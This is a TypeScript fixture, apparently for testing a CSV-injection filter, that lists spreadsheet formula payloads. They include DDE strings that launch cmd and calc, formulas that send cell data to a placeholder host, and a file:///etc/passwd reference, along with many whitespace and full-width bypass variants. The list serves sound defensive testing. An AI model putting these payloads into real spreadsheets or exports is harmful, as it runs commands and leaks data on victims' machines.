/**
 * What people have put into cells so that a spreadsheet calculates, calls or connects (OWASP, and each with the full-width
 * signs of a Chinese keyboard). Fictitious hosts. To add one: a line.
 */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

export const PAYLOADS: readonly string[] = [
  // Every sign alone, with a sum, after each kind of blank, and behind somebody else's guard.
  ...SIGNS,
  ...SIGNS.map((sign) => `${sign}1+1`),
  ...SIGNS.map((sign) => `\t${sign}SUM(A1:A9)`),
  ...SIGNS.map((sign) => ` ${sign}A1`),
  ...SIGNS.map((sign) => `'${sign}1`),
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '\u0007\u0001+1',
  "' '=1",
  "''''=1",
  '\ttext',
  '\rtext',
  // DDE and programs.
  `=cmd|'/C calc'!A0`,
  `+cmd|'/C calc'!A0`,
  `-cmd|'/C calc'!A0`,
  `@cmd|'/C calc'!A0`,
  `=DDE("cmd";"/C calc";"x")`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''`,
  `＝cmd｜'/C calc'!A0`,
  // Connections, and what leaves through them.
  '=HYPERLINK("http://example.invalid/?x="&A2,"点这里")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  `=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")`,
  `='file:///etc/passwd'#$passwd.A1`,
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '+86 138 0013 8000',
  '-5',
  '=1",=2,"',
  '"=1+1"',
  '";=1+1;"',
]
